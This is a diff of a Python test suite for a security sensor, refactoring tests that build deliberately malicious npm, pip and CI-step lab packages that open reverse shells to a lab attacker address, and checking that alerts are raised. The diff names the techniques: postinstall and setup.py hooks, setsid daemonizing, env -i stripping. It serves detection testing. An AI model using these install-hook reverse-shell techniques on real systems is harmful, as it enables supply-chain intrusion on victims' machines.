@@ -12,6 +12,7 @@ import itertools
 import os
 import uuid
 from collections.abc import Callable
+from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
 
@@ -135,6 +136,38 @@ def assert_sensor_saw_connect(sensorlab: Any, mark: int, root: int, ip: str, por
     return pids
 
 
+@dataclass(frozen=True)
+class ShellRun:
+    """An attack that ran: how it finished, where the sensor's event and alert lists stood before it, and the
+    process tree the sensor saw."""
+
+    done: Finished
+    mark: int
+    amark: int
+    pids: set[int]
+
+
+def run_reverse_shell(sensorlab: Any, netlab: Any, listener: Any, argv: list[str], cwd: Path, ip: str, port: int,
+                      what: str) -> ShellRun:
+    """Run ``argv`` in the victim namespace. Fixture checks: it succeeded, its reverse shell ran the attacker's
+    command, and the sensor saw the connect from its tree."""
+    mark, amark = sensorlab.mark(), sensorlab.alert_mark()
+    done = run_in_lab(netlab, netlab.victim_ns, argv, cwd=cwd)
+    assert done.returncode == 0, f"{what} failed: {done.describe()}"
+    assert_shell_ran(listener, done)
+    return ShellRun(done, mark, amark, assert_sensor_saw_connect(sensorlab, mark, done.pid, ip, port))
+
+
+def reverse_shell_verdict(sensorlab: Any, run: ShellRun, ip: str, port: int, context: str
+                          ) -> tuple[Problems, list[dict[str, Any]], dict[str, Any]]:
+    """The run's alerts, checked as one high incident in ``context`` with the attacker's address; returns the
+    problems so far, the alerts and the incident's last line."""
+    alerts = install_alerts(sensorlab, run.amark, run.pids, dest=(ip, port))
+    p = Problems()
+    last = check_reverse_shell_alert(p, check_one_incident(p, alerts), ip, port, context)
+    return p, alerts, last
+
+
 def install_alerts(sensorlab: Any, amark: int, pids: set[int], *, dest: tuple[str, int] | None = None,
                    path: str | None = None, done: Callable[[list[dict[str, Any]]], bool] | None = None,
                    ) -> list[dict[str, Any]]:
@@ -189,16 +222,10 @@ def test_npm_postinstall_reverse_shell(sensorlab, netlab, npm) -> None:
     ip = netlab.attacker_ip4
     pkg = npm.pack("cw-evil-pkg", "1.0.3", {"postinstall": bash_reverse_shell(ip, port)})
     project = npm.project()
-    mark, amark = sensorlab.mark(), sensorlab.alert_mark()
-    done = run_in_lab(netlab, netlab.victim_ns, npm.install_argv(project, pkg), cwd=project)
-    assert done.returncode == 0, f"npm install failed: {done.describe()}"
-    assert_shell_ran(listener, done)
-    pids = assert_sensor_saw_connect(sensorlab, mark, done.pid, ip, port)
+    run = run_reverse_shell(sensorlab, netlab, listener, npm.install_argv(project, pkg), project, ip, port,
+                            "npm install")
 
-    alerts = install_alerts(sensorlab, amark, pids, dest=(ip, port))
-    p = Problems()
-    lines = check_one_incident(p, alerts)
-    last = check_reverse_shell_alert(p, lines, ip, port, "package_install_npm")
+    p, alerts, last = reverse_shell_verdict(sensorlab, run, ip, port, "package_install_npm")
     want = npm_package_fields(pkg.name, pkg.version)
     p.expect(get(last, "supply_chain.package") == want,
              f"supply_chain.package: want {want!r}, got {get(last, 'supply_chain.package')!r}")
@@ -266,19 +293,13 @@ def test_npm_postinstall_daemonized_reverse_shell_keeps_context(sensorlab, netla
     script = f'( setsid bash -c "{daemon}" </dev/null >/dev/null 2>&1 & ); exit 0'
     pkg = npm.pack("cw-evil-daemon", "0.9.0", {"postinstall": script})
     project = npm.project()
-    mark, amark = sensorlab.mark(), sensorlab.alert_mark()
-    done = run_in_lab(netlab, netlab.victim_ns, npm.install_argv(project, pkg), cwd=project)
-    assert done.returncode == 0, f"npm install failed: {done.describe()}"
-    assert_shell_ran(listener, done)
-    pids = assert_sensor_saw_connect(sensorlab, mark, done.pid, ip, port)
+    run = run_reverse_shell(sensorlab, netlab, listener, npm.install_argv(project, pkg), project, ip, port,
+                            "npm install")
     assert ppid_file.is_file(), "fixture: the daemon never ran"
     daemon_ppid = int(ppid_file.read_text().split()[0])
-    assert daemon_ppid not in pids, f"fixture: the daemon was not re-parented (parent {daemon_ppid} is in the tree)"
+    assert daemon_ppid not in run.pids, f"fixture: the daemon was not re-parented (parent {daemon_ppid} is in the tree)"
 
-    alerts = install_alerts(sensorlab, amark, pids, dest=(ip, port))
-    p = Problems()
-    lines = check_one_incident(p, alerts)
-    last = check_reverse_shell_alert(p, lines, ip, port, "package_install_npm")
+    p, alerts, last = reverse_shell_verdict(sensorlab, run, ip, port, "package_install_npm")
     want = npm_package_fields(pkg.name, pkg.version)  # the npm_* labels are still inherited
     p.expect(get(last, "supply_chain.package") == want,
              f"supply_chain.package: want {want!r}, got {get(last, 'supply_chain.package')!r}")
@@ -293,20 +314,14 @@ def test_npm_postinstall_without_npm_env_keeps_context(sensorlab, netlab, npm) -
     script = f'env -i PATH=/usr/bin:/bin bash -c "{bash_reverse_shell(ip, port)}"'
     pkg = npm.pack("cw-evil-noenv", "3.0.0", {"postinstall": script})
     project = npm.project()
-    mark, amark = sensorlab.mark(), sensorlab.alert_mark()
-    done = run_in_lab(netlab, netlab.victim_ns, npm.install_argv(project, pkg), cwd=project)
-    assert done.returncode == 0, f"npm install failed: {done.describe()}"
-    assert_shell_ran(listener, done)
-    pids = assert_sensor_saw_connect(sensorlab, mark, done.pid, ip, port)
-    _, events = tree(sensorlab, mark, done.pid)
+    run = run_reverse_shell(sensorlab, netlab, listener, npm.install_argv(project, pkg), project, ip, port,
+                            "npm install")
+    _, events = tree(sensorlab, run.mark, run.done.pid)
     shells = [e for e in events if isinstance(e, Exec) and "-i" in e.args and e.filename.endswith("bash")]
     assert shells and all(not any(k.startswith("npm_") for k in e.env) for e in shells), \
         f"fixture: the reverse shell still had npm_* variables: {[e.env for e in shells]}"
 
-    alerts = install_alerts(sensorlab, amark, pids, dest=(ip, port))
-    p = Problems()
-    lines = check_one_incident(p, alerts)
-    check_reverse_shell_alert(p, lines, ip, port, "package_install_npm")
+    p, alerts, _ = reverse_shell_verdict(sensorlab, run, ip, port, "package_install_npm")
     p.check(alerts, "npm postinstall reverse shell without npm_* variables")
 
 
@@ -321,17 +336,10 @@ def test_pip_setup_py_reverse_shell(sensorlab, netlab, venv_python, tmp_path) ->
     setup_py = (python_reverse_shell(ip, port, tmp_path / "fired-once")
                 + f"from setuptools import setup\nsetup(name={name!r}, version='0.1.0', py_modules=['cw_evil_pip'])\n")
     sdist = build_sdist(tmp_path, name, "0.1.0", setup_py, {"cw_evil_pip.py": "VALUE = 1\n"})
-    mark, amark = sensorlab.mark(), sensorlab.alert_mark()
-    done = run_in_lab(netlab, netlab.victim_ns, pip_install_argv(venv_python, sdist, tmp_path / "home"),
-                      cwd=tmp_path)
-    assert done.returncode == 0, f"pip install failed: {done.describe()}"
-    assert_shell_ran(listener, done)
-    pids = assert_sensor_saw_connect(sensorlab, mark, done.pid, ip, port)
+    run = run_reverse_shell(sensorlab, netlab, listener, pip_install_argv(venv_python, sdist, tmp_path / "home"),
+                            tmp_path, ip, port, "pip install")
 
-    alerts = install_alerts(sensorlab, amark, pids, dest=(ip, port))
-    p = Problems()
-    lines = check_one_incident(p, alerts)
-    last = check_reverse_shell_alert(p, lines, ip, port, "package_install_pip")
+    p, alerts, last = reverse_shell_verdict(sensorlab, run, ip, port, "package_install_pip")
     p.expect(get(last, "supply_chain.package.manager") == "pip",
              f"supply_chain.package.manager: want 'pip', got {get(last, 'supply_chain.package.manager')!r}")
     got = get(last, "supply_chain.package.name")
@@ -383,19 +391,12 @@ def test_ci_runner_step_reverse_shell(sensorlab, netlab, tmp_path, provider) -> 
     ip = netlab.attacker_ip4
     env: dict[str, str] = spec["env"]
     runner, argv = runner_step(tmp_path, spec, f"echo building\n{bash_reverse_shell(ip, port)}\necho done\n")
-    mark, amark = sensorlab.mark(), sensorlab.alert_mark()
-    done = run_in_lab(netlab, netlab.victim_ns, argv, cwd=tmp_path)
-    assert done.returncode == 0, f"fake runner failed: {done.describe()}"
-    assert_shell_ran(listener, done)
-    pids = assert_sensor_saw_connect(sensorlab, mark, done.pid, ip, port)
-    roots = sensorlab.select(lambda e: isinstance(e, Exec) and e.pid == done.pid and e.filename == str(runner),
-                             since=mark)
-    assert roots, f"fixture/sensor: no exec of {runner} as pid {done.pid}"
+    run = run_reverse_shell(sensorlab, netlab, listener, argv, tmp_path, ip, port, "fake runner")
+    roots = sensorlab.select(lambda e: isinstance(e, Exec) and e.pid == run.done.pid and e.filename == str(runner),
+                             since=run.mark)
+    assert roots, f"fixture/sensor: no exec of {runner} as pid {run.done.pid}"
 
-    alerts = install_alerts(sensorlab, amark, pids, dest=(ip, port))
-    p = Problems()
-    lines = check_one_incident(p, alerts)
-    last = check_reverse_shell_alert(p, lines, ip, port, spec["context"])
+    p, alerts, last = reverse_shell_verdict(sensorlab, run, ip, port, spec["context"])
     ci = get(last, "supply_chain.ci")
     p.expect(isinstance(ci, dict), f"supply_chain.ci missing: {ci!r}")
     ci = ci if isinstance(ci, dict) else {}
